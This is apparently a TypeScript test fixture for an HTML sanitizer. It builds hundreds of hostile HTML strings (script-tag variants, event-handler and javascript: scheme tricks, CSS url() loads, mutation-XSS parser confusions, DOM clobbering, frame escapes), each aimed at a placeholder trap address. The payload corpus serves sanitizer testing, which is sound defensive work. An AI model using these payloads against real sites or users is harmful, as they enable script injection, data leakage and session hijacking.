/**
 * HTML bodies that try to run something or to load something. Each calls `ran` where it can, and names addresses of the
 * trap; the known ways are grouped by how they work and combined by generators.
 */

/** @param trap an address that must not be asked */
export function hostileHtml(trap: string): readonly string[] {
  const run = "(top||self).ran=1;new Image().src='TRAP/ran'"
  const bare = trap.slice(trap.indexOf('//'))
  const all = [
    ...scripts(),
    ...handlers(),
    ...schemes(),
    ...styles(),
    ...loads(),
    ...mutations(),
    ...clobbering(),
    ...escapes(),
  ]
  return all.map((html) => html.replaceAll('RUN', run).replaceAll('//TRAP', bare).replaceAll('TRAP', trap))
}

function scripts(): readonly string[] {
  const openings = [
    '<script>',
    '<SCRIPT>',
    '<script type=module>',
    '<script language=javascript>',
    '<script/x>',
    '<script\n>',
    '<script\u0000>',
    '<scr<script>ipt>',
    '<<script>',
    '<svg><script>',
    '<math><script>',
    '<svg/onload=RUN><script>',
    '<noscript><p title="</noscript><script>',
    '<!--><script>',
    '<![CDATA[><script>',
    '<title></title><script>',
    '<textarea></textarea><script>',
  ]
  return [
    ...openings.map((opening) => `${opening}RUN</script>`),
    '<script src=TRAP/a.js></script>',
    '<script src="//TRAP/b.js"></script>',
    '<svg><script href=TRAP/c.js /></svg>',
    '<svg><script xlink:href=TRAP/d.js></script></svg>',
    '<script>RUN',
    '<iframe srcdoc="<script>RUN</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=RUN&gt;"></iframe>',
    '<template><script>RUN</script></template>',
    '<div><template shadowrootmode=open><script>RUN</script><img src=TRAP/shadow onerror=RUN></template></div>',
    '<object data="data:text/html,<script>RUN</script>"></object>',
    '<embed src="data:text/html,<script>RUN</script>">',
    '<iframe src="data:text/html,<script>RUN</script>"></iframe>',
    '<script type=importmap>{"imports":{"a":"TRAP/map"}}</script>',
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["TRAP/spec"]}]}</script>',
  ]
}

function handlers(): readonly string[] {
  const elements: Readonly<Record<string, string>> = {
    img: 'src=x',
    svg: '',
    body: '',
    iframe: 'src=about:blank',
    video: 'src=x',
    audio: 'src=x',
    object: 'data=x',
    details: 'open',
    input: 'autofocus',
    select: 'autofocus',
    textarea: 'autofocus',
    a: 'href=# autofocus tabindex=0',
    div: 'style="animation:a 1s" tabindex=0 autofocus',
    math: '',
    style: '',
    link: 'rel=stylesheet href=x',
    marquee: '',
    table: 'background=x',
    form: '',
    dialog: 'open',
  }
  const events = ['onload', 'onerror', 'onfocus', 'ontoggle', 'onanimationstart', 'onbegin']
  const matrix = Object.entries(elements).flatMap(([name, rest], at) =>
    [0, 1, 2].map((step) => {
      const event = events[(at + step * 2) % events.length] ?? 'onload'
      const separator = [' ', '/', '\n', '\t', '\f'][(at + step) % 5] ?? ' '
      const quote = ['', '"', "'"][(at + step) % 3] ?? ''
      return `<${name}${separator}${rest}${separator}${event}=${quote}RUN${quote}>x</${name}>`
    }),
  )
  return [
    ...matrix,
    '<IMG SRC=x OnErRoR=RUN>',
    '<img src=x onerror\u0009=RUN>',
    '<img src="x` `<script>RUN</script>"` `>',
    '<img src=x:alert onerror=eval(src)>',
    '<img/src/onerror=RUN>',
    '<img """><script>RUN</script>">',
    '<image src=x onerror=RUN>',
    '<svg><animate onbegin=RUN attributeName=x dur=1s>',
    '<svg><set onbegin=RUN attributename=x to=y>',
    '<svg><image href=x onerror=RUN>',
    '<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>',
    '<video><source onerror=RUN src=x></video>',
    '<body onpageshow=RUN onhashchange=RUN onmessage=RUN onresize=RUN>',
    '<p onpointerrawupdate=RUN oncontentvisibilityautostatechange=RUN style="content-visibility:auto">x</p>',
  ]
}

function schemes(): readonly string[] {
  const values = [
    'javascript:RUN',
    'JaVaScRiPt:RUN',
    'java\tscript:RUN',
    'java\nscript:RUN',
    ' javascript:RUN',
    '\u0001javascript:RUN',
    '&#106;avascript:RUN',
    '&#x6A;&#x61;vascript:RUN',
    'javascript&colon;RUN',
    'javascript&Tab;:RUN',
    'jav&#x0A;ascript:RUN',
    'vbscript:RUN',
    'data:text/html,<script>RUN</script>',
    'data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=RUN>',
    'blob:TRAP/blob',
    'view-source:javascript:RUN',
  ]
  return values.flatMap((value, at) => [
    `<iframe src="${value}"></iframe><a href="${value}">a</a>`,
    [
      `<form action="${value}"><button autofocus>go</button></form>`,
      `<object data="${value}"></object>`,
      `<svg><a xlink:href="${value}"><text y=9>a</text></a></svg>`,
      `<meta http-equiv=refresh content="0;url=${value}">`,
      `<img src="${value}" dynsrc="${value}" lowsrc="${value}">`,
    ][at % 5] ?? '',
  ])
}

function styles(): readonly string[] {
  const declarations = [
    'background:url(TRAP/s1)',
    'background-image:url("TRAP/s2")',
    "list-style:url('TRAP/s3')",
    'cursor:url(TRAP/s4),auto',
    'content:url(TRAP/s5)',
    'border-image:url(TRAP/s6) 1',
    'mask:url(TRAP/s7#m)',
    'filter:url(TRAP/s8#f)',
    'clip-path:url(TRAP/s9#c)',
    'background:u\\72l(TRAP/s10)',
    'background:\\75\\72\\6c(TRAP/s11)',
    'background:image-set("TRAP/s12" 1x)',
    'background:-webkit-image-set(url(TRAP/s13) 1x)',
    '--a:url(TRAP/s14);background:var(--a)',
    '--a:u\\72l(TRAP/s15);background:var(--a)',
    'background:cross-fade(url(TRAP/s16),url(TRAP/s17),50%)',
    'shape-outside:url(TRAP/s18)',
    'width:expression(RUN)',
    'behavior:url(TRAP/s19)',
    '-moz-binding:url(TRAP/s20)',
    'background:/**/url(/**/TRAP/s21)',
    'background:URL(TRAP/s22)',
    'offset-path:url(TRAP/s23)',
    'background:src("TRAP/s24")',
  ]
  return [
    ...declarations.map((declaration) => `<p style='${declaration.replaceAll("'", '"')}'>x</p>`),
    ...declarations.map((declaration) => `<style>body,p,div{${declaration}}</style><p>x</p>`),
    '<style>@import url(TRAP/i1);</style>',
    '<style>@import "TRAP/i2";</style>',
    '<style>@\\69mport "TRAP/i3";</style>',
    '<style>@font-face{font-family:f;src:url(TRAP/i4)}p{font-family:f}</style><p>x</p>',
    '<style>@media all{p{background:url(TRAP/i5)}}</style><p>x</p>',
    '<style>@supports (color:red){p{background:url(TRAP/i6)}}</style><p>x</p>',
    '<style>p{& b{background:url(TRAP/i7)}}</style><p><b>x</b></p>',
    '<style>@layer a{p{background:url(TRAP/i8)}}</style><p>x</p>',
    '<style>@namespace url(TRAP/i9);p{color:red}</style><p>x</p>',
    '<style>@keyframes a{to{background:url(TRAP/i10)}}p{animation:a 1ms forwards}</style><p>x</p>',
    '<style>@property --p{syntax:"<image>";inherits:false;initial-value:url(TRAP/i11)}p{background:var(--p)}</style><p>x</p>',
    '<link rel=stylesheet href=TRAP/i12>',
    '<link rel=stylesheet href="data:text/css,p{background:url(TRAP/i13)}"><p>x</p>',
    '<svg><style>p{background:url(TRAP/i14)}</style></svg><p>x</p>',
    '<style></style><style>p{background:url(TRAP/i15)}</style><p>x</p>',
    '<svg></p><style><a id="</style><img src=TRAP/i16 onerror=RUN>">',
  ]
}

function loads(): readonly string[] {
  return [
    '<img src=TRAP/l1>',
    '<img srcset="TRAP/l2 1x, TRAP/l3 2x">',
    '<img src=TRAP/l4 loading=eager fetchpriority=high>',
    '<picture><source srcset=TRAP/l5><img src=TRAP/l6></picture>',
    '<input type=image src=TRAP/l7>',
    '<video poster=TRAP/l8 src=TRAP/l9 autoplay></video>',
    '<audio src=TRAP/l10 autoplay></audio>',
    '<video autoplay><source src=TRAP/l11></video>',
    '<video><track default src=TRAP/l12></video>',
    '<embed src=TRAP/l13>',
    '<object data=TRAP/l14></object>',
    '<iframe src=TRAP/l15></iframe>',
    '<frameset><frame src=TRAP/l16></frameset>',
    '<body background=TRAP/l17>x',
    '<table background=TRAP/l18><tr><td background=TRAP/l19>x</table>',
    ...['preload', 'prefetch', 'preconnect', 'dns-prefetch', 'icon', 'manifest', 'modulepreload', 'prerender'].map(
      (rel) => `<link rel=${rel} as=image href=TRAP/${rel}>`,
    ),
    '<meta http-equiv=refresh content="0;url=TRAP/l20">',
    '<meta http-equiv="Content-Security-Policy" content="img-src *"><img src=TRAP/l21>',
    '<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri TRAP/l22"><img src=x>',
    '<base href=TRAP/><img src=l23>',
    '<svg><image href=TRAP/l24 /></svg>',
    '<svg><image xlink:href=TRAP/l25 /></svg>',
    '<svg><use href=TRAP/l26#a /></svg>',
    '<svg><filter id=f><feImage href=TRAP/l27 /></filter><rect filter=url(#f) width=9 height=9 /></svg>',
    '<svg><defs><pattern id=p><image href=TRAP/l28 /></pattern></defs><rect fill=url(#p) width=9 height=9 /></svg>',
    '<img src="&#104;ttp://TRAP/l29">',
    '<img src=" TRAP/l30">',
    '<img lowsrc=TRAP/l31 dynsrc=TRAP/l32 src="">',
    '<script src=TRAP/l33></script>',
    '<applet code=TRAP/l34 archive=TRAP/l35></applet>',
    '<bgsound src=TRAP/l36>',
    '<menuitem icon=TRAP/l37>',
    '<portal src=TRAP/l38></portal>',
    '<fencedframe src=TRAP/l39></fencedframe>',
    '<math href=TRAP/l40>x</math>',
    '<blockquote cite=TRAP/l41>x</blockquote><del cite=TRAP/l42>x</del>',
    '<a href=TRAP/l43 ping=TRAP/l44>x</a>',
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='TRAP/l45'/></svg>\">",
    '<img src=//TRAP/l46>',
    '<img usemap=#m src=TRAP/l47><map name=m><area href=TRAP/l48></map>',
  ]
}

function mutations(): readonly string[] {
  const bait = '<img src=TRAP/m onerror=RUN>'
  const quoted = bait.replaceAll('<', '&lt;').replaceAll('>', '&gt;')
  return [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${quoted}">`,
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${bait}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${bait}`,
    `<svg><style><a title="</style>${bait}">`,
    `<svg></p><title><a id="</title>${bait}">`,
    `<noscript><p title="</noscript>${bait}">`,
    `<noembed><p title="</noembed>${bait}">`,
    `<noframes><p title="</noframes>${bait}">`,
    `<xmp><p title="</xmp>${bait}">`,
    `<iframe><p title="</iframe>${bait}">`,
    `<textarea><p title="</textarea>${bait}">`,
    `<title><p title="</title>${bait}">`,
    `<style><p title="</style>${bait}">`,
    `<plaintext>${bait}`,
    `<!-- --!>${bait}-->`,
    `<!-->${bait}-->`,
    `<!--><p title="-->${bait}">`,
    `<![CDATA[ ]]>${bait}`,
    `<?xml version="1.0"?>${bait}`,
    `<svg><![CDATA[</svg>]]>${bait}`,
    `<select><option><style></option></select>${bait}</style>`,
    `<table><tr><td><svg><desc><table><tr>${bait}`,
    `<p title="\u0000">${bait}`,
    `<listing>&lt;img src=TRAP/m2 onerror=RUN&gt;</listing>`,
    `<p>${'<b>'.repeat(600)}${bait}`,
    `<div>${'<svg><foreignObject>'.repeat(130)}<style><!--</style>${bait}--></style>`,
    `<template><template><template>${bait}</template></template></template>`,
    `<a href="x&quot; onfocus=RUN autofocus x=&quot;">x</a>`,
  ]
}

function clobbering(): readonly string[] {
  const names = ['body', 'head', 'documentElement', 'createElement', 'addEventListener', 'defaultView', 'childNodes']
  return [
    ...names.flatMap((name) => [
      `<form name=${name}><input name=attributes><input name=removeChild></form><img src=TRAP/c onerror=RUN>`,
      `<img name=${name} id=${name}><script>RUN</script>`,
    ]),
    '<form id=f><input name=nodeName><input name=nodeType><input name=attributes></form><img src=x onerror=RUN>',
    '<form><input name=parentNode><input name=textContent onfocus=RUN autofocus></form>',
    '<a id=defaultView href=javascript:RUN></a><a id=defaultView name=x href=javascript:RUN></a>',
  ]
}

function escapes(): readonly string[] {
  return [
    '<base target=_top><meta http-equiv=refresh content="0;url=TRAP/e1">',
    '<base target=_parent><form action=TRAP/e2 id=f></form><script>f.submit()</script>',
    '<form action=TRAP/e3><input type=submit autofocus onfocus=this.click()></form>',
    '<form id=f action=TRAP/e4><button form=f formaction=TRAP/e5 autofocus>x</button></form>',
    '<iframe name=top srcdoc="<base target=_top><meta http-equiv=refresh content=0;url=TRAP/e6>"></iframe>',
    '<p style="position:fixed;inset:0;z-index:99999;height:100vh;background:red">over everything</p>',
    '<style>html,body,div{position:fixed!important;height:300vh!important;width:500vw!important}</style>x',
    '<button popovertarget=p>x</button><div id=p popover onbeforetoggle=RUN>x</div>',
    '<dialog open onclose=RUN><form method=dialog><button autofocus>x</button></form></dialog>',
    '<marquee onstart=RUN behavior=alternate>x</marquee>',
  ]
}
